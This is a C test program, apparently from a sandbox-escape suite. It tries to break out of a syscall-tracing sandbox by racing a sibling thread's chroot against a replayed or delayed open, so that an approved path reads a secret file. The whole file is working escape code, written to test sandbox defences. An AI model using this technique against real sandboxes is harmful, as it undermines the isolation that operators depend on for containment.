/* ns_stale_view: a sibling thread's chroot lands between a call's check and its run.
 *
 * A thread's root is its process's (threads share one fs_struct): when one thread calls
 * chroot(SECD), the next path call of every other thread is looked up under SECD.  systrace
 * reads a task's view again at its next stop after such a call -- but a call whose decision
 * is *replayed* (the first call of an address space that must be held is turned into the
 * scratch area's mmap, then restarted and its decision applied again at the new stop) is
 * looked at again in the view it was decided in.  If a thread of the process chroots while
 * the restarted call waits to run (the signal handler of a signal that came during the mmap
 * runs there: it spins, with no call, until the sibling's chroot is over), the call decided
 * for "/secret.txt" as the tracer's view has it -- a name that does not exist, permitted --
 * runs under the new root: SECD/secret.txt.
 *
 *   ns_stale_view HOW SECD [delay]   HOW: user (chroot's right from a user namespace of our
 *                                          own, as an unprivileged program) or root
 *
 * "delay": the same window kept open by the policy -- an inject rule delays the open (the
 * sibling chroots 200 ms after it began): a decision applied after the delay, in a view
 * that is not the one it was made in.
 *
 * "local": the same delay, the root changed for another that is no more the tracer's than
 * the first: the process chroots into WORK/r1 (SECD's parent's work directory, where
 * secd/secret.txt is a harmless file and secd/d/l a link to ../secret.txt), its cwd
 * /secd/d; the open of "l" -- the harmless file, by a relative link -- is delayed while the
 * sibling moves the root to SECD's parent, the cwd kept (fchdir, chroot("."), fchdir back).
 * "l" still reaches the harmless file, but the spelling the tracer held for the kernel is the
 * task's own absolute one, "/secd/secret.txt" -- under the new root, the secret.  (The
 * control opens that spelling after the same move: what the kernel gives for it.)
 *
 * Each attempt is a fresh image (exec of ourselves: its scratch area not mapped yet, SIGTRAP
 * ignored so it is not mapped at the exec), alone until it starts the chrooting thread; the
 * main thread then opens "/secret.txt" by a raw syscall at a known address, while the other
 * thread sends it SIGUSR1 until the handler says it runs at that address (the call about to
 * run again).  Natively no such window comes; after the attempts the sibling chroots first
 * and the open comes after -- the technique itself (a sibling's chroot changes what the
 * open's spelling means), which systrace decides in the new view.
 * ESCAPED when an open of "/secret.txt" gave the secret.  Class 10 (new views).
 */
#include "attack.h"

#include <sched.h>
#include <sys/syscall.h>
#include <ucontext.h>

#define ATTEMPTS 12

static const char *how, *secd;
static int delayed, local_mode, fd_top = -1, fd_cwd = -1;
static volatile int in_open, window, chrooted, open_done;
static volatile pid_t main_tid;
extern char rt41_sys[];

static void become_root_in_userns(void) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER) < 0) {
        if (errno == EINVAL || errno == ENOSPC)
            skipped("unshare: %s", ename(errno));
        blocked("unshare(CLONE_NEWUSER): %s", ename(errno));
    }
    map_own_ids(uid, gid);
}

/* openat(AT_FDCWD, path, O_RDONLY) by a syscall instruction at rt41_sys */
static long raw_open(const char *path) {
    long ret;
    register long r10 __asm__("r10") = 0;
    __asm__ volatile(".globl rt41_sys\nrt41_sys: syscall"
                     : "=a"(ret)
                     : "a"((long)SYS_openat), "D"((long)AT_FDCWD), "S"(path),
                       "d"((long)O_RDONLY), "r"(r10)
                     : "rcx", "r11", "memory");
    return ret;
}

static void on_usr1(int sig, siginfo_t *info, void *ctx) {
    (void)sig;
    (void)info;
    ucontext_t *uc = ctx;
    if (in_open && !open_done && uc->uc_mcontext.gregs[REG_RIP] == (greg_t)rt41_sys) {
        window = 1;  /* the open is about to run again: let the sibling chroot first */
        while (!chrooted)
            ;
    }
}

static void *sibling(void *arg) {
    int sequential = *(int *)arg;
    if (!sequential && delayed) {
        while (!in_open)
            ;
        struct timespec pause = {0, 200 * 1000 * 1000};
        nanosleep(&pause, NULL);
        window = !open_done;
        if (!window)
            return NULL;  /* natively: the open was long over */
    } else if (!sequential) {
        while (!in_open)
            ;
        while (!window && !open_done)
            syscall(SYS_tgkill, getpid(), main_tid, SIGUSR1);
        if (!window)
            return NULL;  /* the open ran before any window came */
    }
    if (local_mode) {
        if (fchdir(fd_top) < 0 || chroot(".") < 0 || fchdir(fd_cwd) < 0)
            note("moving the root: %s", ename(errno));
    } else if (chroot(secd) < 0) {
        note("chroot(%s): %s", secd, ename(errno));
    }
    chrooted = 1;
    return NULL;
}

static void one_attempt(int sequential) {
    main_tid = (pid_t)syscall(SYS_gettid);
    struct sigaction sa = {0};
    sa.sa_sigaction = on_usr1;
    sa.sa_flags = SA_SIGINFO | SA_RESTART;
    sigaction(SIGUSR1, &sa, NULL);
    pthread_t t;
    if (pthread_create(&t, NULL, sibling, &sequential) != 0)
        blocked("pthread_create failed");
    if (sequential)
        while (!chrooted)
            ;
    in_open = 1;
    long fd = raw_open(!local_mode ? "/secret.txt" : sequential ? "/secd/secret.txt" : "l");
    open_done = 1;
    int err = fd < 0 ? (int)-fd : 0;
    pthread_join(t, NULL);
    if (fd >= 0 && is_secret_fd((int)fd))
        escaped("open(\"%s\") gave the secret after a sibling's chroot(%s)%s",
                !local_mode ? "/secret.txt" : sequential ? "/secd/secret.txt" : "l", secd,
                window ? ", while the open waited to run" : "");
    if (fd >= 0)
        note("open(/secret.txt) gave another file");
    else
        note("open(/secret.txt)%s: %s", window ? " (in the window)" : "", ename(err));
    if (window)
        blocked("the sibling's chroot came in the window, and the open was decided in it");
}

/* WORK/r1 (next to SECD): secd/secret.txt harmless, secd/d/l -> ../secret.txt; chroot there
 * with the cwd /secd/d, SECD's parent and the cwd kept as descriptors */
static void set_up_local(void) {
    char top[4096], r1[4096], path[4200];
    snprintf(top, sizeof top, "%s/..", secd);
    snprintf(r1, sizeof r1, "%s/work/r1", top);
    mkdir(r1, 0755);
    snprintf(path, sizeof path, "%s/secd", r1);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/secd/d", r1);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/secd/secret.txt", r1);
    if (write_file(path, "harmless\n") < 0)
        blocked("%s: %s", path, ename(errno));
    snprintf(path, sizeof path, "%s/secd/d/l", r1);
    if (symlink("../secret.txt", path) < 0 && errno != EEXIST)
        blocked("symlink: %s", ename(errno));
    fd_top = open(top, O_PATH | O_DIRECTORY);
    if (fd_top < 0 || chroot(r1) < 0 || chdir("/secd/d") < 0)
        blocked("chroot(%s): %s", r1, ename(errno));
    fd_cwd = open(".", O_PATH | O_DIRECTORY);
}

int main(int argc, char **argv) {
    if (argc < 3 || argc > 5 || (argc >= 4 && strcmp(argv[3], "race") && strcmp(argv[3], "delay")
                                    && strcmp(argv[3], "local"))) {
        fprintf(stderr, "usage: ns_stale_view user|root SECD [race|delay|local]\n");
        return 2;
    }
    how = argv[1];
    secd = argv[2];
    local_mode = argc >= 4 && !strcmp(argv[3], "local");
    delayed = local_mode || (argc >= 4 && !strcmp(argv[3], "delay"));
    int attempt = argc == 5 ? atoi(argv[4]) : 0;
    int last = delayed ? 1 : ATTEMPTS;
    if (attempt == 0) {
        if (!strcmp(how, "user"))
            become_root_in_userns();  /* (the images exec'd after stay in it, as its root) */
        signal(SIGTRAP, SIG_IGN);  /* (kept across exec: no scratch area mapped at an exec) */
    }
    if (local_mode) {
        set_up_local();
        one_attempt(0);
        in_open = window = chrooted = open_done = 0;
        one_attempt(1);
        blocked("the open of l was refused or missed the secret");
    }
    one_attempt(attempt == last);
    if (attempt == last)
        blocked("every attempt's open of /secret.txt was refused or missed the secret");
    /* a fresh image, alone again (the sibling ended), its scratch area not mapped yet */
    char next[16];
    snprintf(next, sizeof next, "%d", attempt + 1);
    char *args[] = {argv[0], argv[1], argv[2], delayed ? "delay" : "race", next, NULL};
    fflush(stdout);
    execv("/proc/self/exe", args);
    blocked("exec: %s", ename(errno));
}
